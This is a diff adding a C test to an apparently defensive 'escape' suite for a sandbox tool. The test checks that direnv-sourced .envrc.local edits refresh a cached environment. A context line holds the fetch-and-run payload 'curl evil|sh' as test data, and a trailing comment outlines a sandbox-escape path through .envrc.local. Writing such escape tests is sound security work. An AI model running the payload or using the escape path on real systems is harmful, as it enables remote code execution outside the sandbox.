@@ -1435,6 +1435,28 @@ Test(escape, direnvs_environment_when_direnv_allowed_it)
 	expect(in_cell("cat .direnv/flake-profile.rc"), 0, "curl evil|sh\n");
 }
 
+/* What direnv says the .envrc read (its watch list) keys the cache too: an edit of the
+ * .envrc.local it sources is seen at the next entry, with no cell env --refresh. */
+Test(escape, a_file_the_envrc_sources_refreshes_the_environment)
+{
+	char *allow_argv[] = {(char *)"/usr/bin/direnv", (char *)"allow", (char *)".", NULL};
+	struct th_result r;
+
+	if (access("/usr/bin/direnv", X_OK) != 0)
+		th_skip("direnv is not installed (apt-get install direnv)");
+	free(th_write(t.proj, ".envrc", "source_env_if_exists .envrc.local\n"));
+	free(th_write(t.proj, ".envrc.local", "export LOCAL=one\n"));
+	th_chown_r(t.proj, t.uid, t.gid);
+	set_config("{\"name\": \"esc\", \"network\": {\"mode\": \"none\"},"
+		   " \"env\": {\"provider\": \"direnv\"}}");
+	th_run_as(t.uid, t.gid, t.proj, allow_argv, t.env, &r);
+	cr_assert(eq(int, r.status, 0), "direnv allow: %s", r.err);
+	th_result_done(&r);
+	expect(in_cell("echo $LOCAL"), 0, "one\n");
+	expect(in_cell("echo $LOCAL; echo 'export LOCAL=two' > .envrc.local"), 0, "one\n");
+	expect(in_cell("echo $LOCAL"), 0, "two\n");
+}
+
 /*
  * A trusted, direnv-allowed .envrc sources .envrc.local if there is one; the cell writes one.
  * When the environment is next evaluated (outside, as the user), that file runs: in the
